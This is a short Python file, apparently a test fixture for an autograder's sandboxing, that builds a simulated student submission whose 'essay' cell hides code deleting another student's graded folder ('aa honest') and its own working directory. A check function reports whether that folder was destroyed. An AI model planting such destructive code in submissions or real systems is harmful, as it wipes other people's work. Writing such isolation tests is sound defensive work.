"""Deletes its working folder, and the folders of those who were graded before."""

STOCK = "harm"
MARKS = {"test-double": 1.0, "test-mean": 2.0}


def hand_in(folder, cells, notebook):
    cells["double"].source = "def double(x):\n    return 2 * x"
    cells["mean"].source = "def mean(x):\n    return x.mean()"
    cells["essay"].source = """
import os, pathlib, shutil

here = pathlib.Path.cwd()
for folder in here.parents:
    if folder.name == "autograded":
        shutil.rmtree(folder / "aa honest", ignore_errors=True)
for entry in here.iterdir():
    if entry.name != "lab.ipynb":
        shutil.rmtree(entry) if entry.is_dir() else entry.unlink()
try:
    here.rmdir()
except OSError:
    pass
"""
    return notebook


def harmed(course):
    return not (course / "autograded" / "aa honest" / "lab" / "lab.ipynb").is_file()
